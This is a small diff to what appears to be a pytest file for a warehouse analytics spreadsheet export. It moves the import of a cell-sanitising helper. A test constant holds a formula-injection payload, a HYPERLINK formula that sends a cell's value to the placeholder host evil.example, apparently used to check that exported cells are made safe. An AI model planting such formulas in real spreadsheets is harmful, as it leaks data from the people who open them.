@@ -11,7 +11,7 @@ import pytest
 from openpyxl import load_workbook
 
 from station.analytics.export import write_table
-from station.spreadsheet_safety import safe_cell
+from station.analytics.safe_cells import safe_cell
 
 HOSTILE_SKU = '=HYPERLINK("http://evil.example/?d="&A2,"Click for details")'
 COLUMNS = ["lpn", "sku_received", "note", "refund", "delta", "units", "received_at"]
